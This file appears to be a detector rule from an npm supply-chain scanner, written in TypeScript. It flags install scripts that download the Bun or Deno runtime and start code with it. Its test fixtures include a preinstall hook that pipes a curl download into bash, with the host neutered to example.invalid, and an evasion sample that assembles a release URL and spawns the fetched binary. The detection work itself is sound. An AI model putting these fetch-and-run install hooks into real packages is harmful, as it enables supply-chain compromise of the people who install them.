import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { installHooks, lineOf, scriptsWith } from "./_npm.ts";
import { sight } from "./_sight.ts";

const RUNTIMES = [
  "bun.sh/install",
  "bun.com/install",
  "oven-sh/bun/releases",
  "deno.land/install",
  "deno.land/x/install",
  "denoland/deno/releases",
  "setup_bun",
  "bun_environment",
] as const;
const FETCHES = new RegExp(RUNTIMES.map((one) => one.replaceAll(".", "\\.")).join("|"), "i");

/** An install script that needs another runtime than the one it is installed with. */
const STARTS_WITH =
  /(?:^|[;&|][ \t]{0,4})(?:npx[ \t]{1,4}(?:-y[ \t]{1,4})?)?(?:bun|deno)[ \t]{1,4}(?:run[ \t]{1,4})?[\w./-]{1,200}\.[cm]?[jt]s\b/;

export const fetchesOwnRuntime: Detector = {
  id: "fetches-own-runtime",
  title: "Fetches another JavaScript runtime and starts it",
  severity: "critical",
  ecosystems: ["npm"],
  points: 5.2,
  class: "threat",
  group: "download-and-run",
  why: `A script that installing or importing runs downloads Bun or Deno and starts something with it. The worms of November 2025 and of
2026 did this because tools that watch Node.js see nothing of what another runtime does, and handed it one huge file.

An install script that is started with Bun (\`bun run index.js\`) although npm installs it counts for less. Project generators tell people how to install Bun; they print the address and do not fetch it while they are being installed.`,
  literals: [...RUNTIMES, "bun ", "deno "],
  *detect(tree) {
    if (/(?:^|[@/-])(?:bun|deno|oven)(?:$|[/-])/.test(tree.manifest?.name ?? "")) return;
    for (const hook of installHooks(tree)) {
      const share = FETCHES.test(hook.command) ? 1 : STARTS_WITH.test(hook.command) ? 0.6 : 0;
      if (share === 0) continue;
      const says = `${hook.name} runs \`${hook.command.slice(0, 200)}\``;
      yield { path: hook.path, line: lineOf(tree, hook.path, hook.command), says, phase: "install", share };
    }
    for (const file of scriptsWith(tree, RUNTIMES)) {
      const match = FETCHES.exec(file.text);
      const share = match === null ? 0 : shareOf(file);
      if (match !== null && share > 0)
        yield sight(file, match.index, `fetches a runtime (${match[0]}) and starts processes`, { share });
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"scripts":{"preinstall":"node setup.js"}}`,
          "setup.js":
            "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://bun.sh/install | bash'.replace('bun.sh', 'example.invalid'));\n".replace(
              "https://",
              "",
            ),
        },
      },
      {
        ecosystem: "npm",
        files: { "package.json": `{"scripts":{"preinstall":"node setup_bun.js"}}`, "setup_bun.js": "" },
      },
    ],
    passes: [
      {
        ecosystem: "npm",
        files: { "package.json": "{}", "lib/help.js": "console.log('Install Bun: see bun.sh/install');\n" },
      },
      { ecosystem: "npm", files: { "package.json": `{"name":"bun","scripts":{"postinstall":"node setup_bun.js"}}` } },
    ],
    evasions: [
      { ecosystem: "npm", files: { "package.json": `{"scripts":{"preinstall":"bun run index.js"}}`, "index.js": "" } },
      {
        ecosystem: "npm",
        files: {
          "package.json": `{"main":"a.mjs"}`,
          "a.mjs":
            "import { spawn as s } from 'node:child_process';\nconst u = 'github' + '.com';\nawait get(u + '/oven-sh/bun/releases/latest');\ns('./bun', ['run', 'big.js']);\n",
        },
      },
    ],
  },
};

function shareOf(file: SourceFile): number {
  if (deedsOf(file, "start").length === 0) return 0;
  if (file.phase === "install" || file.phase === "start") return 1;
  return file.phase === "import" ? 0.8 : 0.25;
}
